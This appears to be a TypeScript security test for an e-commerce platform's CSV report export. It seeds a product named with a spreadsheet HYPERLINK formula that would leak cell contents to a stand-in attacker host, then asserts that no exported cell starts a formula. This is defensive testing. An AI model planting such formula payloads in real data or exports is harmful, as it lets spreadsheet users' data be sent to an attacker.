/**
 * The CSV export is safe from formula injection: the seeded product named
 * `=HYPERLINK("http://attacker.invalid/?leak="&A1,"Kampanya")` is made a top seller (a signed
 * order through the webhook), then exported — its cell, and every other cell, must not start like
 * a spreadsheet formula (= + - @ tab CR).
 */
import { randomUUID } from 'node:crypto';
import { FORMULA_PRODUCT_ID, FORMULA_PRODUCT_NAME, seedProducts } from '../../reference-target/db/catalog.ts';
import { routeById } from '../../contracts/meschain-routes.ts';
import {
  test,
  expect,
  deliveryBody,
  group,
  isFormulaCell,
  keyTest,
  parseCsv,
  sendWebhook,
  validParams,
} from '../../fixtures/index.ts';

const formula = seedProducts().find((p) => p.productId === FORMULA_PRODUCT_ID);
if (!formula) throw new Error(`seed: expected the formula product ${FORMULA_PRODUCT_ID}`);

test(
  'reporting.exportReport: a product named like a formula is exported as text, and no cell starts a formula',
  { tag: ['@security', '@writes', '@reference-only'] },
  async ({ settings, apiAs, control }) => {
    const route = routeById('reporting.exportReport');
    await group(route.module, route.id, 'CSV injection');
    keyTest();
    const order = {
      orderNumber: `QA${randomUUID().replace(/-/g, '').slice(0, 12)}`,
      createdAt: new Date().toISOString(),
      status: 'Created',
      customer: { firstName: 'QA', lastName: 'Csv', email: 'qa.csv@example.invalid', phone: '+90 555 000 0001' },
      lines: [
        {
          productId: formula.productId,
          sku: formula.sku,
          ean: formula.ean,
          name: formula.name,
          quantity: 50,
          price: 9999.99,
        },
      ],
      total: 499_999.5,
    };
    expect(
      (await sendWebhook(settings, deliveryBody('order-created', order))).status,
      'the order that makes the formula product a top seller',
    ).toBe(200);

    const api = await apiAs('admin');
    const res = await api.send('GET', route.route, { query: await validParams(route, { control, api }) });
    expect(res.kind, res.text.slice(0, 200)).toBe('csv');
    const cells = parseCsv(res.text).flat();
    const named = cells.filter((c) => c.includes('HYPERLINK('));
    expect(named.length, `the export lists the product named ${FORMULA_PRODUCT_NAME}`).toBeGreaterThan(0);
    expect(named.filter(isFormulaCell), 'the formula product cell is neutralised').toEqual([]);
    expect(cells.filter(isFormulaCell), 'no cell starts a formula').toEqual([]);
  },
);
